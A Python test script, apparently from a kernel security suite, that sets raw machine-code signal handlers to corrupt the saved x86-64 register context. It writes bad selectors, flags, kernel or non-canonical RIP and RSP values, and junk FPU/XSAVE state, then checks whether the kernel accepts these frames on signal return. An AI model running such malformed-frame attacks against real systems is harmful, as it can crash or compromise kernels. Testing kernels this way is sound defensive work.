# A handler writes to what its process goes on from: registers that no processor may be given, and junk for the
# vector registers' state, which some kernel hands to the processor.
import ctypes
import os
import signal
import struct
from attack import in_child, libc, machine_code

KERNEL, STUB, NOWHERE = 0xFFFF800000000000, 0x7FFFFFFFC000, 1 << 47
# Offsets in the handler's third argument (struct ucontext of x86-64).
RSP, RIP, FLAGS, SELECTORS, STATE = 160, 168, 176, 184, 224
# Offsets in the state, which STATE points to: the SSE control word, and the header of what is beyond SSE.
MXCSR, HEADER = 24, 512


def word(value):
    return (value % (1 << 64)).to_bytes(8, "little").hex()


def offset(value):
    return value.to_bytes(4, "little").hex()


def write_register(at, value):
    # mov rax, VALUE; mov [rdx + AT], rax; ret
    return "48b8" + word(value) + "488982" + offset(at) + "c3"


def write_state(at, value):
    # mov rcx, [rdx + STATE]; mov rax, VALUE; mov [rcx + AT], rax; ret
    return "488b8a" + offset(STATE) + "48b8" + word(value) + "488981" + offset(at) + "c3"


FRAMES = {
    **{f"selectors {value:#x}": write_register(SELECTORS, value) for value in (0, 0x10, 0x23, 0x002B000000000028, -1)},
    **{f"flags {value:#x}": write_register(FLAGS, value) for value in (-1, 0x3000, 0x20000)},
    **{f"rip {value:#x}": write_register(RIP, value) for value in (KERNEL, STUB, NOWHERE)},
    **{f"rsp {value:#x}": write_register(RSP, value) for value in (KERNEL, STUB, NOWHERE)},
    **{f"state at {value:#x}": write_register(STATE, value) for value in (KERNEL, STUB, STUB + 4096, 1, 0)},
    "an SSE control word of ones": write_state(MXCSR, -1),
    **{f"header {at}": write_state(HEADER + 8 * at, -1) for at in range(3)},
    **{f"state's own mark {at}": write_state(464 + 8 * at, -1) for at in range(3)},
}


def go_on(text):
    handler = machine_code(text)
    action = struct.pack("<Q128sQQ", ctypes.cast(handler, ctypes.c_void_p).value, b"", 4, 0)
    libc.sigaction(signal.SIGUSR1, action, None)
    os.kill(os.getpid(), signal.SIGUSR1)
    os.getppid()
    bytearray(8 << 20)


for name, text in FRAMES.items():
    in_child(name, go_on, text)
print("tried them all")
